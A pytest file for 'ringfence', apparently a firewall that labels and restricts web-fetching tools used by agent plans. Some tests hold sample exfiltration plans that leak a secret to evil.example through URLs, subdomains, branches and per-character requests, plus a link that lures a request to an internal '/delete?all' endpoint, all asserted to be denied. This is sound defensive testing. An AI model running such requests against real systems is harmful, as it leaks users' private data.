"""The web's tools in a firewall and in a configuration: labels by host, egress, settings, `ringfence exec`."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import pytest

from connectors.hostile_server import plain, redirect
from ringfence import Firewall
from ringfence.config import load
from ringfence.connectors.configured import configured_tools
from ringfence.connectors.web.settings import WebSettings, web_settings
from ringfence.connectors.web.tools import Web, web_tools
from ringfence.connectors.workspace import open_workspace
from ringfence.core.errors import ConfigError
from ringfence.core.labels import EVERYONE, Label
from ringfence.core.values import wrap

ANY = WebSettings(robots=False)
PRIVATE = replace(ANY, allow_private=frozenset({("in.example", 8080)}))


@pytest.fixture
def firewall(wire, names):
    names.table["in.example"] = ["10.0.0.5"]

    def make(settings=ANY, **more):
        return Firewall(tools=web_tools(Web(settings, names)), mode="strict", user="me", **more)

    return make


def test_a_page_is_from_its_host_and_all_that_redirected_to_it(firewall, site):
    site.answers["/"] = redirect("http://B.example/x")
    site.answers["/x"] = redirect("http://c.example:80/y")
    site.answers["/y"] = plain(b"first<h1>h</h1><p>text <a href=/z>z</a>")
    run = firewall().exec
    expected = {"tool:fetch_page", "web:a.example", "web:b.example", "web:c.example"}
    for part in ("", ".text", ".links[0].url", ".links[0]", ".title"):
        label = run(f"answer(fetch_page('http://a.example/'){part})").answer.label
        assert (label.sources, label.readers) == (expected, EVERYONE)
    for part in (".sections[1].text", ".sections[0].heading"):
        label = run(f"answer(fetch_page('http://a.example/', sections=True){part})").answer.label
        assert (label.sources, label.readers) == (expected, EVERYONE)
    assert run("answer(fetch_page('http://a.example/').sections)").to_json()["answer"]["value"] == []
    direct = run("answer(fetch_page('http://c.example/y').text)").answer.label
    assert direct.sources == {"tool:fetch_page", "web:c.example"}


def test_a_page_of_the_own_network_is_the_users_alone(firewall, site):
    site.answers["/"] = plain(b"salaries")
    label = firewall(PRIVATE).exec("answer(fetch_inner_page('http://in.example:8080/').text)").answer.label
    assert (label.sources, label.readers) == ({"tool:fetch_inner_page", "web:in.example"}, {"me"})


def test_private_data_does_not_leave_in_a_url_and_a_link_may_be_followed(firewall, wire, site):
    site.answers["/"] = plain(b"<a href='/next?id=5'>next</a>")
    site.answers["/next"] = plain(b"second")
    run = firewall().exec
    assert run("page = fetch_page('http://a.example/')\nfetch_page(page.links[0].url).text").outcome == "completed"
    secret = {"secret": wrap("diagnosis", Label({"tool:mail"}, {"me"}))}
    before = len(wire.connected)
    for plan in (
        "fetch_page('http://evil.example/?q=' + secret)",
        "fetch_page(f'http://{secret}.evil.example/')",
        "fetch_page('http://evil.example/' + ('a' if secret == 'diagnosis' else 'b'))",
        "for c in secret:\n    fetch_page('http://evil.example/' + c)",
        "fetch_page(secret)",
    ):
        assert run(plan, secret).outcome == "denied", plan
    assert len(wire.connected) == before


def test_the_links_of_a_private_page_do_not_leave_its_host_by_themselves(firewall, site):
    """A link of an inner page may hold what only the user may read; the outside would be told."""
    site.answers["/"] = plain(b"<a href='http://evil.example/?salary=5'>x</a>")
    found = firewall(PRIVATE).exec(
        "page = fetch_inner_page('http://in.example:8080/')\nfetch_page('http://evil.example/?' + page.links[0].url)"
    )
    assert found.outcome == "denied"
    assert [host for host, _ in site.seen] == ["in.example:8080"]


def test_a_link_of_a_strangers_page_does_not_lead_into_the_own_network(firewall, site):
    """The exceptions are for URLs of the request: a link may be followed on the internet, and there only."""
    site.answers |= {"/": plain(b"<a href='http://in.example:8080/delete?all'>x</a>"), "/delete": plain(b"deleted")}
    run = firewall(PRIVATE).exec
    page = "url = fetch_page('http://a.example/').links[0].url\n"
    assert run(page + "fetch_page(url)").outcome == "failed"
    assert run(page + "fetch_inner_page(url)").outcome == "denied"
    assert run("fetch_inner_page('http://a.example/')").outcome == "failed"
    assert {host for host, _ in site.seen} == {"a.example"}
    assert run("fetch_inner_page('http://in.example:8080/delete').text").outcome == "completed"


def test_errors_hold_no_url_and_no_text_of_the_server(firewall, site):
    site.answers["/"] = plain(b"password", status="500 password")
    result = firewall().exec("fetch_page('http://a.example/?token=secret')")
    assert result.outcome == "failed"
    assert "secret" not in str(result.error) + result.error.render()
    assert "password" not in str(result.error) + result.detail


# Configuration

WHOLE = {
    "allow": ["Example.COM", "*.Bücher.example"],
    "deny": ["ads.example."],
    "schemes": ["https"],
    "ports": [443],
    "allow_private": ["10.0.0.5:8080", "[::1]:81", "Wiki:80"],
    "robots": False,
    "max_bytes": 1000,
    "seconds": 1,
    "redirects": 0,
    "search": "http://127.0.0.1:8888",
}


def test_every_key_is_read():
    assert web_settings(WHOLE) == WebSettings(
        allow=("example.com", "*.xn--bcher-kva.example"),
        deny=("ads.example",),
        schemes=frozenset({"https"}),
        ports=frozenset({443}),
        allow_private=frozenset({("10.0.0.5", 8080), ("::1", 81), ("wiki", 80)}),
        robots=False,
        max_bytes=1000,
        seconds=1.0,
        redirects=0,
        search="http://127.0.0.1:8888",
    )
    assert web_settings({}) == WebSettings()


@pytest.mark.parametrize(
    ("table", "code"),
    [
        ({"alow": []}, "C507"), ({"allow": "a.example"}, "C500"), ({"allow": [""]}, "C500"), ({"allow": [1]}, "C500"),
        ({"allow": ["http://a.example/"]}, "C500"), ({"allow": ["a.*"]}, "C500"), ({"deny": ["*.127.0.0.1"]}, "C500"),
        ({"deny": ["0x7f.1"]}, "C500"), ({"schemes": ["ftp"]}, "C500"), ({"schemes": "http"}, "C500"),
        ({"ports": 80}, "C500"), ({"ports": [0]}, "C500"), ({"ports": [True]}, "C500"),
        ({"ports": [65536]}, "C500"), ({"allow_private": ["10.0.0.5"]}, "C500"), ({"allow_private": [":80"]}, "C500"),
        ({"allow_private": ["a.example:0"]}, "C500"), ({"allow_private": ["a.example:x"]}, "C500"),
        ({"allow_private": ["a.example:٥"]}, "C500"), ({"allow_private": ["10.0.0.0/8:80"]}, "C500"),
        ({"robots": "no"}, "C500"), ({"max_bytes": 0}, "C500"), ({"max_bytes": 1 << 40}, "C500"),
        ({"seconds": 0}, "C500"), ({"seconds": float("nan")}, "C500"), ({"seconds": True}, "C500"),
        ({"redirects": -1}, "C500"), ({"redirects": 100}, "C500"), ({"search": "127.0.0.1"}, "C500"),
        ({"search": 5}, "C500"), ("x", "C500"),
    ],
)  # fmt: skip
def test_settings_that_are_wrong(table, code):
    with pytest.raises(ConfigError) as caught:
        web_settings(table)
    assert caught.value.code == code
    assert "a.example" not in caught.value.message


def test_a_workspace_reads_both_tables(workspace):
    with (workspace.path / "ringfence.toml").open("a") as file:
        file.write('\n[web]\nallow = ["a.example"]\n[files]\nmax_bytes = 10\n')
    opened = open_workspace(workspace.path)
    assert (opened.web.allow, opened.files.max_bytes) == (("a.example",), 10)
    (workspace.path / "ringfence.toml").write_text('[workspace]\nkind="demo"\nuser="a@x.example"\n[web]\nport = 1\n')
    with pytest.raises(ConfigError) as caught:
        open_workspace(workspace.path)
    assert caught.value.code == "C507"


def configured(folder: Path, text: str):
    (folder / "ringfence.toml").write_text(text)
    return [one.name for one in configured_tools(load(folder / "ringfence.toml"))]


def test_the_tables_bring_their_tools(tmp_path):
    (tmp_path / "files").mkdir()
    assert configured(tmp_path, "") == []
    assert configured(tmp_path, "[web]") == ["fetch_page"]
    assert configured(tmp_path, "[web]\nsearch = 'http://127.0.0.1:1'") == ["fetch_page", "search_web"]
    assert configured(tmp_path, "[files]\nwrite = false") == ["list_files", "read_file"]
    with pytest.raises(ConfigError) as caught:
        configured(tmp_path, "[files]\nroot = 'nothing'")
    assert caught.value.code == "C508"


def test_exec_with_a_configuration_and_a_server_on_loopback(tmp_path, site):
    """The whole way, in a process of its own, with nothing in the place of anything."""
    site.answers["/page"] = plain(b"<title>Hello</title><p>shown<p hidden>not shown")
    host, port = site.server_address
    (tmp_path / "files").mkdir()
    (tmp_path / "ringfence.toml").write_text(
        f'mode = "strict"\n[web]\nallow = []\nrobots = false\nallow_private = ["{host}:{port}"]\n[files]\n'
    )
    (tmp_path / "plan").write_text(
        f"page = fetch_inner_page('http://{host}:{port}/page')\nwrite_file('page.txt', page.text)\n"
        "answer([page.title, page.hidden, read_file('page.txt')])"
    )
    environ = {"PATH": os.environ["PATH"], "PYTHONPATH": str(Path(__file__).parents[2] / "src")}
    # Settings of the environment have no say: a proxy would see every page.
    environ |= {"HTTP_PROXY": "http://127.0.0.1:9", "ALL_PROXY": "http://127.0.0.1:9", "http_proxy": "http://x:1"}
    done = subprocess.run(
        [sys.executable, "-m", "ringfence", "exec", "plan", "--json"],
        cwd=tmp_path, env=environ, capture_output=True, text=True, timeout=60, check=False,
    )  # fmt: skip
    found = json.loads(done.stdout)
    assert (done.returncode, found["outcome"], done.stderr) == (0, "completed", "")
    assert found["answer"]["value"] == ["Hello", 1, "shown"]
    assert set(found["answer"]["label"]["sources"]) >= {f"web:{host}", "tool:fetch_inner_page", "tool:read_file"}
    assert (tmp_path / "files" / "page.txt").read_text() == "shown"
